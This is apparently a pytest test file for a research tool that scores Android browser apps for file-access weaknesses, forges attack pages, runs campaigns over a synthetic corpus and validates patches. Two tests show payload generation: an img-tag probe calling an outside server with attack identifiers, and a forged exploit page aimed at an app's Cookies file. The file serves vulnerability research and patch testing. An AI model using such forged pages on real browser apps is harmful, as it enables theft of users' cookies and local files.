import json
import shutil

import pytest

from filecross.cli import main


@pytest.fixture(autouse=True)
def state(tmp_path, monkeypatch):
    monkeypatch.setenv("FILECROSS_STATE_DIR", str(tmp_path / "state"))
    return tmp_path / "state"


def test_score(corpus_dir, capsys):
    assert main(["score", str(corpus_dir / "manifests" / "synth.customweak.xml")]) == 0
    out = capsys.readouterr().out
    assert "synth.customweak.BrowserActivity" in out and "60" in out
    assert "engine: default" in out


def test_score_bad_manifest(tmp_path, capsys):
    bad = tmp_path / "bad.xml"
    bad.write_text("<manifest package='p'>\n<application>\n")
    assert main(["score", str(bad)]) == 2
    assert "line" in capsys.readouterr().err


def test_forge_prints_probe(capsys):
    assert main(["forge", "--attack", "5", "--pkg", "example.package"]) == 0
    out = capsys.readouterr().out
    assert ("<img src='http://ourserver.com/req?pkg=example.package&atk=5&con=reqflag"
            "&ver=4.3&kid=keyid'>") in out


def test_forge_write(state, capsys):
    assert main(["forge", "--attack", "4", "--pkg", "p", "--target", "app_data/Cookies",
                 "--write"]) == 0
    assert (state / "exploits" / "p" / "4.html").read_text().count("setTimeout") == 1


def test_forge_missing_target(capsys):
    assert main(["forge", "--attack", "2", "--pkg", "p"]) == 2
    assert "target_file" in capsys.readouterr().err


def small_corpus(corpus_dir, tmp_path, names):
    dest = tmp_path / "corpus"
    (dest / "manifests").mkdir(parents=True)
    for n in names:
        shutil.copy(corpus_dir / f"{n}.json", dest)
        shutil.copy(corpus_dir / "manifests" / f"{n}.xml", dest / "manifests")
    return dest


def test_run_merge_report(corpus_dir, tmp_path, capsys):
    corpus = small_corpus(corpus_dir, tmp_path, ["synth.oldsdk", "synth.noebi"])
    out = tmp_path / "results"
    assert main(["run", "--corpus", str(corpus), "--out", str(out), "--runs", "2"]) == 0
    assert "1 of 2 browsers vulnerable" in capsys.readouterr().out
    runs = sorted(out.glob("results-keyid-run*.log"))
    assert len(runs) == 2
    merged = tmp_path / "merged.log"
    assert main(["merge", *map(str, runs), "-o", str(merged)]) == 0
    capsys.readouterr()
    assert main(["report", str(merged), "--format", "csv"]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert lines[0].startswith("package,A1,")
    assert lines[1].startswith("synth.noebi,n,") and lines[2].startswith("synth.oldsdk,")
    assert main(["report", str(out / "results-keyid-union.log")]) == 0
    assert "issues:" in capsys.readouterr().out


def test_validate_patch_exit_codes(corpus_dir, tmp_path, capsys):
    before = corpus_dir / "synth.oldsdk.json"
    data = json.loads(before.read_text())
    data["manifest"] = str(corpus_dir / data["manifest"])
    data["patch_modes"] = [{"disable_js_in_file": ["user_bar"]}]
    half = tmp_path / "half.json"
    half.write_text(json.dumps(data))
    assert main(["validate-patch", "--before", str(before), "--after", str(half), "--runs", "1"]) == 1
    assert "A2 on 4.4: still_vulnerable" in capsys.readouterr().out
    data["patch_modes"] = [{"disable_js_in_file": ["user_bar", "external_intent"]}]
    full = tmp_path / "full.json"
    full.write_text(json.dumps(data))
    assert main(["validate-patch", "--before", str(before), "--after", str(full), "--runs", "1"]) == 0
    assert "A4 on 4.4: blocked" in capsys.readouterr().out
